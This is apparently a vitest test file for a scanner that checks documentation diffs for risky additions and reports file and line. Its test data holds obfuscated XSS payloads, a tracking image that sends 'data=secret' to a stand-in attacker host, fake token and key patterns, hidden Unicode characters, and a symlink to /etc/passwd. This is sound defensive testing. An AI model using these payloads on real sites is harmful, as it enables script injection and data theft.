import { expect, test } from 'vitest'
import { inspectChanges } from './inspect-changes.ts'

function adding(...lines: readonly string[]): string {
  return `diff --git a/guides/a.mdx b/guides/a.mdx
index 1..2 100644
--- a/guides/a.mdx
+++ b/guides/a.mdx
@@ -4,1 +4,${lines.length + 1} @@
 See https://known.example/page for more.
${lines.map((line) => `+${line}`).join('\n')}
`
}

function codesOf(...lines: readonly string[]): string[] {
  return inspectChanges(adding(...lines), { hosts: ['docs.acme.com'] }).map(({ code }) => code)
}

test.each<[string, string]>([
  ['<script src="/x.js"></script>', 'added-script'],
  ['< script>alert(1)</script>', 'added-script'],
  ['<img src="/a.png" onerror="alert(1)" />', 'added-script'],
  ['<meta http-equiv="refresh" content="0" />', 'added-script'],
  ['<iframe src="/frame" />', 'added-frame'],
  ['[open](javascript:alert(1))', 'script-link'],
  ['[open](JaVaScRiPt&colon;alert(1))', 'script-link'],
  ['<a href="&#106;avascript:alert(1)">open</a>', 'script-link'],
  ['<a href="java\u200Bscript:alert(1)">open</a>', 'script-link'],
  ['[open](data:text/html;base64,PHN2Zz4=)', 'script-link'],
  ['Read [this](https://evil.example/page)', 'new-host'],
  ['Read [this](//evil.example/page)', 'new-host'],
  ['![](https://evil.example/pixel.png?data=secret)', 'remote-image'],
  ['<img src="https://evil.example/p.gif" />', 'remote-image'],
  [`key: ghp_${'a1B2'.repeat(9)}`, 'secret'],
  [`AKIA${'ABCD1234'.repeat(2)}`, 'secret'],
  ['-----BEGIN OPENSSH PRIVATE KEY-----', 'secret'],
  [`dw_${'a1B2c3'.repeat(6)}`, 'secret'],
  [Buffer.from(`token ghp_${'a1B2'.repeat(9)} end`).toString('base64'), 'secret'],
  ['postgres://admin:hunter2hunter2@known.example/db', 'secret'],
  ['invisible\u200Btext', 'hidden-characters'],
  ['abc\u202Edef', 'hidden-characters'],
])('“%s” is noticed as %s', (line, code) => {
  expect(codesOf(line)).toContain(code)
})

test.each([
  ['.docwright/i18n/fr.memory.jsonl', false],
  ['docs/.docwright/i18n/pt-BR.pages.jsonl', false],
  ['.docwright/i18n/glossary.yml', true],
  ['.docwright/i18n/fr.memory.jsonl/a.md', true],
  ['docs/.docwright/workflows/a.md', true],
])('%s is what a person must look at: %s', (path, isGuarded) => {
  const diff = adding('Words.').replaceAll('guides/a.mdx', path)
  expect(inspectChanges(diff, { hosts: [] }).map(({ code }) => code)).toEqual(isGuarded ? ['guarded-file'] : [])
})

test.each([
  'Plain words about JavaScript: it is a language.',
  'See https://known.example/other and https://docs.acme.com/x.',
  '<Card title="On" href="/guides/on">Only words</Card>',
  'Use `Authorization: Bearer YOUR_API_KEY`.',
  'postgres://user:password@localhost/db',
  '![A diagram](/images/flow.png)',
])('“%s” is nothing to notice', (line) => {
  expect(codesOf(line)).toEqual([])
})

test('a notice names file and line, and never the secret', () => {
  const secret = `ghp_${'a1B2'.repeat(9)}`
  const notices = inspectChanges(adding('fine', `<script>fetch("/${secret}")</script>`))
  expect(notices.map(({ code, file, line }) => [code, file, line])).toEqual([
    ['added-script', 'guides/a.mdx', 6],
    ['secret', 'guides/a.mdx', 6],
  ])
  expect(JSON.stringify(notices)).not.toContain(secret)
})

test('an added line that looks like a header of a diff is content', () => {
  expect(codesOf('++ b/other.mdx', '<script>1</script>')).toContain('added-script')
  expect(codesOf('@@ -1,9 +1,9 @@', '-- a/x', '<script>1</script>')).toContain('added-script')
})

test('guarded files, links and submodules', () => {
  const diff = `diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml
index 1..2 100644
--- a/.github/workflows/ci.yml
+++ b/.github/workflows/ci.yml
@@ -1 +1 @@
-a
+b
diff --git a/link b/link
new file mode 120000
index 0000000..1
--- /dev/null
+++ b/link
@@ -0,0 +1 @@
+/etc/passwd
\\ No newline at end of file
diff --git a/module b/module
new file mode 160000
`
  expect(inspectChanges(diff).map(({ code, file }) => [code, file])).toEqual([
    ['guarded-file', '.github/workflows/ci.yml'],
    ['unusual-file', 'link'],
    ['unusual-file', 'module'],
  ])
})
